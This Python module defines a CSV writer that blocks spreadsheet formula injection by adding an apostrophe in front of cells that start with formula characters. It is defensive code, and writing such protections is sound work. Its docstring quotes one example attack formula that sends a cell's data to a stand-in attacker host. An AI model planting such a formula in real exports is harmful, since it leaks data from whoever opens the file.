"""Tables as CSV for spreadsheets: the one writer every CSV export goes through.

Cells come from users (review justifications, reviewer and model names, notes, imported files).
A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula, and a leading tab or
carriage return can hide such a start from a check yet not from the spreadsheet, so a reviewer
could plant `=HYPERLINK("http://evil.example/?leak="&A2,"open")` in the admin's download. Every
such text cell gets a leading apostrophe (OWASP, "CSV Injection"): the spreadsheet shows the text,
apostrophe hidden, and runs nothing. Numbers stay numbers: int and float values, and text that is
just a number (`-0.5`, `+3`, `1e-4`), cannot be a formula, so `-0.5` is not turned into text.

Lives in benchmark (the lowest layer with exports) so that benchmark, judge and review all import
it without breaking the direction sandbox <- benchmark <- judge <- review.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def csv_cell(value: Any) -> Any:
    """`value` as a spreadsheet may safely read it: text that would start a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class CsvWriter:
    """csv.writer whose rows are neutralised cell by cell (csv.writer is a C type: wrapped, not subclassed)."""

    def __init__(self, out: TextIO, **fmtparams: Any) -> None:
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class CsvDictWriter(csv.DictWriter):
    """csv.DictWriter whose rows (the header included: writeheader goes through writerow) are neutralised."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: csv_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def csv_text(head: Sequence[Any], rows: Iterable[Iterable[Any]]) -> str:
    """A whole CSV document: the header line, then the rows."""
    out = io.StringIO()
    writer = CsvWriter(out)
    writer.writerow(head)
    writer.writerows(rows)
    return out.getvalue()
